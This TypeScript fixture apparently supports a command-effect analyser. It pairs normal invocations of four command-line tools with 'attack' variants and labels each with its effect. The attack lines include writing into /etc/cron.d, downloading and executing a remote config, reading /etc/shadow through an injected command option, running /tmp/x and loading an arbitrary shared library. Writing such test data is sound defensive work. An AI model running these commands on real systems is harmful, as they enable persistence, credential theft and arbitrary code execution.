import type { ExampleTable } from './example.ts'

/** Programs that were drawn by lot from the packages of a distribution, and described from their manuals. */
export const randomPrograms: ExampleTable = {
  tensorboard: { use: 'tensorboard --logdir runs → touch runs; listen localhost:6006' },
  calamaris: {
    use: 'calamaris -a -F html --output-file report.html access.log → read access.log; write report.html',
    attack: [
      'calamaris --output-file /etc/cron.d/job access.log → read access.log; write /etc/cron.d/job',
      'curl -so c.conf https://example.org/x && calamaris --config-file c.conf → execute ‹https://example.org/x›',
    ],
  },
  findimagedupes: {
    use: 'findimagedupes -R -f prints.db photos → edit prints.db',
    attack: [
      "findimagedupes -i 'cat /etc/shadow' photos → read /etc/shadow",
      'findimagedupes -p /tmp/x photos → run /tmp/x',
    ],
    unclear:
      'findimagedupes -i \'VIEW() { rm "$@"; }\' photos → what the functions do that it calls for each picture',
  },
  'distccmon-gnome': {
    use: 'distccmon-gnome --display :1 → nothing',
    attack: 'distccmon-gnome --gtk-module=/tmp/x.so → load /tmp/x.so',
  },
}
